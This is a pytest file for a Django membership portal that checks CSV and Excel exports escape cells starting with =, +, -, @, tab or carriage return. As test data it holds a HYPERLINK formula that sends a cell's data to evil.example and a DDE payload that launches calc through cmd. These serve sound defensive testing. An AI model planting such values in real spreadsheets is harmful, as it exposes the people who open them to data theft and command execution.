"""Spreadsheet formula injection: a text typed into the portal that starts with = + - @, a tab or a carriage
return reaches every CSV and Excel export as text, never as a live formula."""

import csv
import io

import pytest
from django.urls import reverse

from core.downloads import escape_cell
from members.records.models import Member
from members.records.services import member_export, member_update
from tests.members.helpers import district_actor, make_dues, make_meeting

from .conftest import xlsx_cells

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
EXPORTS_CHECKED = set()


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-5", "-5"), ("-3.5", "-3.5"), ("+86 139", "'+86 139"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-1+2", "'-1+2"), ("王明", "王明"), (5, 5), (None, None), ("", ""),
])
def test_escape_cell(value, expected):
    assert escape_cell(value) == expected


def _no_formula_in_csv(text):
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell == "", cell
            assert not (cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit()), cell


def _no_formula_in_xlsx(content):
    cells = xlsx_cells(content)
    assert cells
    for cell in cells:
        assert cell.data_type != "f", cell.value
        if isinstance(cell.value, str):
            assert not cell.value.startswith(("=", "@", "\t", "\r")), cell.value
    return " ".join(str(c.value) for c in cells if c.value is not None)


def _post(client, changelist, action, pks):
    response = client.post(reverse(changelist), {"action": action, "_selected_action": pks})
    assert response.status_code == 200
    EXPORTS_CHECKED.add(f"{changelist}:{action}")
    return response


def test_member_exports(client, tree, district_user):
    # Names are validated now (letters only), so a formula-looking name can only be an old row: written directly.
    member_update(actor=district_user, member=tree.member, ethnicity="@汉族")
    Member.objects.filter(pk=tree.member.pk).update(name="=HYPERLINK(1)")
    client.force_login(district_user)
    text = _post(client, "admin:members_member_changelist", "export_masked_csv", [tree.member.pk]).content.decode()
    _no_formula_in_csv(text)
    assert "'=HYPERLINK(1)" in text
    body = _no_formula_in_xlsx(_post(client, "admin:members_member_changelist", "export_masked_xlsx",
                                     [tree.member.pk]).content)
    assert "'=HYPERLINK(1)" in body
    # The revealing export too (the service behind a secretary's own sheet).
    _no_formula_in_csv(member_export(actor=district_user, queryset=tree.member.__class__.objects.all(), reveal=True))


def test_points_export(client, tree, district_user):
    from members.points.models import PointEntry

    entry = PointEntry.objects.create(member=tree.member, on="2026-03-01", category="volunteer", points=-2,
                                      reason=PAYLOAD, recorded_by=district_actor())
    client.force_login(district_user)
    body = _no_formula_in_xlsx(_post(client, "admin:members_pointentry_changelist", "export_xlsx", [entry.pk]).content)
    assert "'" + PAYLOAD in body


def test_dues_export(client, tree, district_user):
    payment = make_dues(tree.member)
    payment.__class__.objects.filter(pk=payment.pk).update(paid_by="+SUM(1)")
    client.force_login(district_user)
    body = _no_formula_in_xlsx(_post(client, "admin:members_duespayment_changelist", "export_xlsx",
                                     [payment.pk]).content)
    assert "'+SUM(1)" in body


def test_attendance_export(client, tree, district_user):
    meeting = make_meeting(tree.grid, present=[tree.member])
    meeting.__class__.objects.filter(pk=meeting.pk).update(topic="-1+cmd|' /C calc'!A0")
    tree.grid.__class__.objects.filter(pk=tree.grid.pk).update(name=PAYLOAD)
    client.force_login(district_user)
    body = _no_formula_in_xlsx(_post(client, "admin:members_meeting_changelist", "export_attendance_xlsx",
                                     [meeting.pk]).content)
    assert "'-1+cmd" in body and "'" + PAYLOAD in body


def test_dues_refund_exports(client, tree, district_user):
    from tests.community.factories import DuesRefundFactory

    refund = DuesRefundFactory(org__node=tree.community, org__name=PAYLOAD, purpose="@党日活动")
    client.force_login(district_user)
    text = _post(client, "admin:community_duesrefund_changelist", "export_csv", [refund.pk]).content.decode()
    _no_formula_in_csv(text)
    assert "'" + PAYLOAD.replace('"', '""') in text
    body = _no_formula_in_xlsx(_post(client, "admin:community_duesrefund_changelist", "export_xlsx",
                                     [refund.pk]).content)
    assert "'@党日活动" in body


def test_every_export_action_is_checked():
    """Every admin action that downloads a sheet is one of those above (a new export gets a test here)."""
    from django.contrib import admin

    exports = set()
    for model, model_admin in admin.site._registry.items():
        for name in model_admin.actions or ():
            if isinstance(name, str) and "export" in name:
                exports.add(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist:{name}")
    assert exports == {
        "admin:members_member_changelist:export_masked_csv", "admin:members_member_changelist:export_masked_xlsx",
        "admin:members_pointentry_changelist:export_xlsx", "admin:members_duespayment_changelist:export_xlsx",
        "admin:members_meeting_changelist:export_attendance_xlsx", "admin:community_duesrefund_changelist:export_csv",
        "admin:community_duesrefund_changelist:export_xlsx"}, exports
